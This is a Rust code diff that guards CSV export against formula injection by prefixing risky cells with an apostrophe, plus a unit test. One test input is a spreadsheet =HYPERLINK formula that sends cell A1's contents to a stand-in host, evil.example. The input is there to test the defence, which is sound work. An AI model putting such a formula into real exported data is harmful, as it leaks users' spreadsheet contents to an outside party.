@@ -135,11 +135,20 @@ pub fn to_csv(index: &Index, lines: &[Line]) -> String {
     out
 }
 
+/// A CSV cell: quoted where needed, and never a formula. A cell starting with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return is one a spreadsheet may run
+/// (`=HYPERLINK(…)`), so it gets a leading apostrophe, which spreadsheets
+/// read as "text" (OWASP's advice for CSV injection).
 fn csv_field(s: &str) -> String {
+    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.to_string()
+    };
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s
     }
 }
 
@@ -164,5 +173,23 @@ mod tests {
         assert_eq!(csv_field("plain"), "plain");
         assert_eq!(csv_field("a, b"), "\"a, b\"");
         assert_eq!(csv_field("say \"no\""), "\"say \"\"no\"\"\"");
+    }
+
+    #[test]
+    fn csv_cells_are_never_formulas() {
+        let cases = [
+            (
+                "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
+                "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\"",
+            ),
+            ("+1", "'+1"),
+            ("-2 degrees", "'-2 degrees"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tcmd", "'\tcmd"),
+            ("a = b", "a = b"),
+        ];
+        for (cell, want) in cases {
+            assert_eq!(csv_field(cell), want, "{cell:?}");
+        }
     }
 }
